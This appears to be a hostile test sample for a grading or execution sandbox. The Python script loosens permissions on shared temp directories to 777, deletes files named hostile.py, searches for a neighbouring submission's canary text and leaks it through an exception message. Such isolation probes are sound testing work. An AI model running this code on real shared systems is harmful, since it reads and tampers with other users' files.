"""Reads whatever comes to lie where temporary files are, and sends it home.
class: reach a neighbour
verdict: error, failed, timeout, memory, crash, blocked
success: canary
control: shared
"""

import glob
import os
import tempfile
import time

PLACES = [os.getcwd(), "/tmp/submission", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir()), "/tmp", "/dev/shm"]
LOOT = []
end = time.time() + 2
for place in PLACES:
    try:
        os.chmod(place, 0o777)
        os.remove(os.path.join(place, "hostile.py"))
    except OSError:
        pass
while time.time() < end and not LOOT:
    for place in PLACES:
        if place == "/":
            continue
        for path in glob.glob(os.path.join(place, "*")) + glob.glob(os.path.join(place, "*", "*")):
            try:
                with open(path) as file:
                    text = file.read()
            except (OSError, ValueError):
                continue
            if "CANARY-" + "neighbour" in text:
                LOOT.append(text)


def scale(x):
    raise ValueError(LOOT[0] if LOOT else "nothing")
